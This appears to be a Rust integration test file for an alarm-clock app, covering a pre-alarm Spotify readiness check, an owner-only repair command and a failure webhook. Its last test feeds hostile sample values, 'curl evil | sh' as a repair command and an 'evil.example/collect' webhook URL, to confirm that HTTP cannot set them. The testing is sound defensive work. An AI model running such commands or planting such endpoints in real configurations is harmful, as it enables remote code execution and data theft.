//! The automatic "will it ring?" check, on the application against the in-process Spotify
//! mock with the manual clock: it runs `readiness.before_minutes` before a firing and after an
//! alarm is saved (not after unrelated edits); the owner's repair command runs once per firing
//! and never for a check asked over HTTP; the owner's webhook gets one POST, as text or JSON,
//! when the pre-alarm check is not ready; HTTP can set neither. Time is moved in one-second
//! steps, never waited for.

use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use axum::body::Bytes;
use axum::http::HeaderMap;
use chrono::{DateTime, Utc};
use reqwest::{Method, StatusCode};
use reveille::clock::Clock;
use reveille::config::{WebhookFormat, WebhookSettings};
use serde_json::{Value, json};
use tokio::sync::mpsc;

use crate::helpers::{TestApp, error_body};
use crate::readiness::{check, local_player, problems, setup};
use crate::spotify_mock::{Endpoint, MockDevice, SpotifyMock};

fn utc(s: &str) -> DateTime<Utc> {
    s.parse().unwrap()
}

/// The app ready but for its receiver ("Bedroom" is off), in UTC, with a local player.
async fn without_receiver() -> (TestApp, SpotifyMock) {
    let (app, mock) = setup(Some("premium")).await;
    local_player(&app, "true").await;
    mock.set_devices(vec![MockDevice::new("dev-2", "Kitchen")]);
    owner(&app, |c| c.time_zone = Some("UTC".into())).await;
    (app, mock)
}

/// A change made the owner's way: straight to the store, not over HTTP.
async fn owner(app: &TestApp, change: impl FnOnce(&mut reveille::config::Config) + Send + 'static) {
    app.store
        .transaction(None, move |config| {
            change(config);
            Ok(())
        })
        .await
        .unwrap();
}

/// A daily alarm at 12:30 (UTC), saved over HTTP.
async fn daily_alarm(app: &TestApp) {
    let days = ["mon", "tue", "wed", "thu", "fri", "sat", "sun"];
    let body = json!({"time": "12:30", "repeat": days}).to_string();
    let response = app
        .request(Method::POST, "/api/alarms", None, Some(body.into_bytes()))
        .await;
    assert!(response.status().is_success(), "{}", response.status());
}

/// Moves the clock in one-second steps until the status's readiness satisfies `done` (the
/// checks run on their own task, against a mock on this runtime), at most two minutes of
/// clock. Returns that readiness.
async fn step_until(app: &TestApp, what: &str, done: impl Fn(&Value) -> bool) -> Value {
    for _ in 0..120 {
        let readiness = app.status().await["readiness"].clone();
        if !readiness.is_null() && done(&readiness) {
            return readiness;
        }
        app.clock.advance(chrono::Duration::seconds(1));
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    panic!(
        "no readiness {what} by {}: {}",
        app.clock.now(),
        app.status().await["readiness"]
    );
}

fn checked_at(readiness: &Value) -> DateTime<Utc> {
    utc(readiness["checked_at"].as_str().unwrap())
}

fn is(trigger: &'static str, from: DateTime<Utc>) -> impl Fn(&Value) -> bool {
    move |r| r["trigger"] == trigger && checked_at(r) >= from
}

#[tokio::test]
async fn the_check_runs_after_an_alarm_is_saved_and_before_it_rings() {
    let (app, mock) = without_receiver().await;
    mock.set_devices(vec![MockDevice::new("dev-1", "Bedroom")]);
    assert!(app.status().await["readiness"].is_null());
    daily_alarm(&app).await;

    let saved = step_until(&app, "after the save", is("alarm_saved", app.clock.now())).await;
    assert_eq!(saved["state"], "ready", "{saved}");
    assert_eq!(saved["next_check_at"], "2026-11-23T12:20:00Z", "{saved}");
    assert_eq!(saved["next_alarm"]["at_utc"], "2026-11-23T12:30:00Z");

    // Ten minutes before, not earlier.
    app.clock.set(utc("2026-11-23T12:19:55Z"));
    let before = step_until(&app, "before the alarm", |r| {
        if app.clock.now() < utc("2026-11-23T12:20:00Z") {
            assert_eq!(r["trigger"], "alarm_saved", "ran early: {r}");
        }
        r["trigger"] == "before_alarm"
    })
    .await;
    let at = checked_at(&before);
    assert!(
        (utc("2026-11-23T12:20:00Z")..utc("2026-11-23T12:20:05Z")).contains(&at),
        "{before}"
    );
    assert_eq!(before["state"], "ready");
    assert!(before["repair"].is_null() && before["webhook"].is_null());
    // The next one is tomorrow's; GET /api/readiness answers the same while it is fresh.
    assert_eq!(before["next_check_at"], "2026-11-24T12:20:00Z", "{before}");
    let answered: Value = app
        .request(Method::GET, "/api/readiness", None, None)
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(answered["trigger"], "before_alarm");
    assert_eq!(answered["next_check_at"], "2026-11-24T12:20:00Z");
    mock.assert_all_valid();
}

#[tokio::test]
async fn an_unrelated_edit_does_not_run_the_check() {
    let (app, mock) = without_receiver().await;
    daily_alarm(&app).await;
    step_until(&app, "after the save", is("alarm_saved", app.clock.now())).await;
    assert_eq!(mock.requests_to(Endpoint::Me).len(), 1);

    let response = app
        .patch(&json!({"volume": {"ceiling_percent": 80}}), None)
        .await;
    assert_eq!(response.status(), StatusCode::OK);
    for _ in 0..5 {
        app.clock.advance(chrono::Duration::seconds(1));
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    // An alarm change afterwards is checked: had the edit been, there would be three checks.
    let body = json!({"time": "12:45"}).to_string();
    let alarms: Value = app
        .request(Method::GET, "/api/alarms", None, None)
        .await
        .json()
        .await
        .unwrap();
    let id = alarms[0]["id"].as_str().unwrap().to_owned();
    let response = app
        .request(
            Method::PATCH,
            &format!("/api/alarms/{id}"),
            None,
            Some(body.into_bytes()),
        )
        .await;
    assert!(response.status().is_success(), "{}", response.status());
    let from = app.clock.now();
    step_until(&app, "after the change", is("alarm_saved", from)).await;
    assert_eq!(mock.requests_to(Endpoint::Me).len(), 2);
}

/// A script that notes each run in a file; the test then switches the receiver on, as a
/// restarted `raspotify` would.
fn repair_script(dir: &Path) -> (Vec<String>, PathBuf) {
    let runs = dir.join("repair-runs");
    let script = dir.join("repair.sh");
    std::fs::write(
        &script,
        format!(
            "echo restarting the receiver\necho ran >> {}\n",
            runs.display()
        ),
    )
    .unwrap();
    // Through sh: executing a file this process just wrote can fail with ETXTBSY.
    let command = vec!["/bin/sh".to_owned(), script.display().to_string()];
    (command, runs)
}

fn runs(file: &Path) -> usize {
    std::fs::read_to_string(file).map_or(0, |s| s.lines().count())
}

/// Waits (real time, bounded) for the script's `n`th run, without moving the clock.
async fn wait_for_runs(file: &Path, n: usize) {
    let deadline = tokio::time::Instant::now() + Duration::from_secs(10);
    while runs(file) < n {
        assert!(tokio::time::Instant::now() < deadline, "no repair run {n}");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

#[tokio::test]
async fn the_repair_command_runs_once_per_firing_and_never_on_demand() {
    let (app, mock) = without_receiver().await;
    let (command, file) = repair_script(app.dir.path());
    owner(&app, move |c| c.readiness.repair_command = Some(command)).await;

    // Asked over HTTP, or after a save: the receiver is missing, and nothing runs.
    let asked = check(&app).await;
    assert_eq!(asked["state"], "degraded");
    assert!(asked["repair"].is_null(), "{asked}");
    daily_alarm(&app).await;
    let saved = step_until(&app, "after the save", is("alarm_saved", app.clock.now())).await;
    assert!(saved["repair"].is_null(), "{saved}");
    assert_eq!(runs(&file), 0);

    for (day, check_at) in [(1, "2026-11-23T12:20:00Z"), (2, "2026-11-24T12:20:00Z")] {
        mock.set_devices(vec![MockDevice::new("dev-2", "Kitchen")]);
        app.clock.set(utc(check_at) - chrono::Duration::seconds(2));
        let first = step_until(&app, "before the alarm", is("before_alarm", utc(check_at))).await;
        assert_eq!(first["state"], "degraded", "{first}");
        wait_for_runs(&file, day).await;
        mock.set_devices(vec![
            MockDevice::new("dev-1", "Bedroom"),
            MockDevice::new("dev-2", "Kitchen"),
        ]);
        let repaired = step_until(&app, "after the repair", |r| {
            r["trigger"] == "before_alarm"
                && !r["repair"].is_null()
                && checked_at(r) >= utc(check_at)
        })
        .await;
        assert_eq!(repaired["state"], "ready", "{repaired}");
        let repair = &repaired["repair"];
        assert_eq!(repair["program"], "/bin/sh");
        assert_eq!(repair["result"], "succeeded");
        assert_eq!(repair["exit_code"], 0);
        assert_eq!(repair["helped"], true);
        let said = problems(&repaired, "spotify_device");
        assert!(
            said.iter()
                .any(|(s, m)| s == "info" && m.contains("online again")),
            "{repaired}"
        );

        // Gone again before the alarm: a check asked for shows it, and runs nothing.
        app.clock.advance(chrono::Duration::minutes(3));
        mock.set_devices(vec![MockDevice::new("dev-2", "Kitchen")]);
        let asked = check(&app).await;
        assert_eq!(asked["state"], "degraded");
        assert!(asked["repair"].is_null(), "{asked}");
        assert_eq!(
            runs(&file),
            day,
            "the repair ran more than once for firing {day}"
        );
    }
    mock.assert_all_valid();
}

/// A webhook receiver on 127.0.0.1:0 that hands each POST (headers, body) to the test.
async fn webhook_receiver() -> (String, mpsc::Receiver<(HeaderMap, Bytes)>) {
    let (tx, rx) = mpsc::channel(8);
    let tx = Arc::new(tx);
    let app = axum::Router::new().route(
        "/hook",
        axum::routing::post(move |headers: HeaderMap, body: Bytes| {
            let tx = tx.clone();
            async move {
                let _ = tx.send((headers, body)).await;
                "ok"
            }
        }),
    );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await });
    (format!("http://{addr}/hook?token=secret-token"), rx)
}

#[tokio::test]
async fn a_pre_alarm_check_that_is_not_ready_posts_once_to_the_webhook() {
    for format in [WebhookFormat::Text, WebhookFormat::Json] {
        let (app, mock) = without_receiver().await;
        let (url, mut posts) = webhook_receiver().await;
        owner(&app, move |c| {
            c.readiness.webhook = Some(WebhookSettings { url, format });
        })
        .await;
        // Neither a check asked for nor the one after a save posts.
        assert_eq!(check(&app).await["state"], "degraded");
        daily_alarm(&app).await;
        step_until(&app, "after the save", is("alarm_saved", app.clock.now())).await;
        assert!(posts.try_recv().is_err(), "posted before the alarm's check");

        app.clock.set(utc("2026-11-23T12:19:58Z"));
        let sent = step_until(&app, "with the webhook", |r| !r["webhook"].is_null()).await;
        assert_eq!(sent["trigger"], "before_alarm");
        let delivery = &sent["webhook"];
        assert_eq!(delivery["delivered"], true, "{sent}");
        assert_eq!(delivery["status"], 200);
        assert_eq!(delivery["host"], "127.0.0.1");
        assert!(!sent.to_string().contains("secret-token"), "{sent}");

        let (headers, body) = posts.recv().await.unwrap();
        let body = String::from_utf8(body.to_vec()).unwrap();
        match format {
            WebhookFormat::Text => {
                assert_eq!(headers["title"], "Alarm at 12:30 will not play Spotify");
                assert!(
                    headers["content-type"]
                        .to_str()
                        .unwrap()
                        .starts_with("text/plain")
                );
                assert!(
                    body.starts_with("Spotify will not play the next alarm"),
                    "{body}"
                );
                assert!(body.contains("\"Bedroom\" is not online now"), "{body}");
            }
            WebhookFormat::Json => {
                assert_eq!(headers["content-type"], "application/json");
                let posted: Value = serde_json::from_str(&body).unwrap();
                assert_eq!(posted["state"], "degraded", "{posted}");
                assert_eq!(posted["trigger"], "before_alarm");
                assert_eq!(posted["next_alarm"]["at_utc"], "2026-11-23T12:30:00Z");
                assert_eq!(posted["next_check_at"], "2026-11-24T12:20:00Z");
                assert!(!problems(&posted, "spotify_device").is_empty(), "{posted}");
            }
        }

        // Tomorrow the receiver is on: the pre-alarm check is ready and posts nothing.
        mock.set_devices(vec![MockDevice::new("dev-1", "Bedroom")]);
        app.clock.set(utc("2026-11-24T12:19:58Z"));
        let ready = step_until(
            &app,
            "the next day",
            is("before_alarm", utc("2026-11-24T12:20:00Z")),
        )
        .await;
        assert_eq!(ready["state"], "ready", "{ready}");
        assert!(ready["webhook"].is_null(), "{ready}");
        assert!(
            posts.try_recv().is_err(),
            "posted more than once, or when ready"
        );
    }
}

#[tokio::test]
async fn http_cannot_set_the_repair_command_or_the_webhook() {
    let (app, _mock) = setup(None).await;
    let attacks = [
        (
            json!({"readiness": {"repair_command": ["/bin/sh", "-c", "curl evil | sh"]}}),
            "readiness.repair_command",
        ),
        (
            json!({"readiness": {"webhook": {"url": "https://evil.example/collect"}}}),
            "readiness.webhook",
        ),
    ];
    for (patch, field) in attacks {
        let response = app.patch(&patch, None).await;
        let body = error_body(response, StatusCode::FORBIDDEN, "owner_only").await;
        assert_eq!(body["error"]["field"], field, "{patch}");
    }
    let config = app.get_config().await.0;
    assert!(config["readiness"]["repair_command"].is_null());
    assert!(config["readiness"]["webhook"].is_null());

    // How long before an alarm the check runs is the user's, within its range.
    let response = app
        .patch(&json!({"readiness": {"before_minutes": 30}}), None)
        .await;
    assert_eq!(response.status(), StatusCode::OK);
    let response = app
        .patch(&json!({"readiness": {"before_minutes": 0}}), None)
        .await;
    let body = error_body(response, StatusCode::UNPROCESSABLE_ENTITY, "invalid_value").await;
    assert_eq!(body["error"]["field"], "readiness.before_minutes");
}
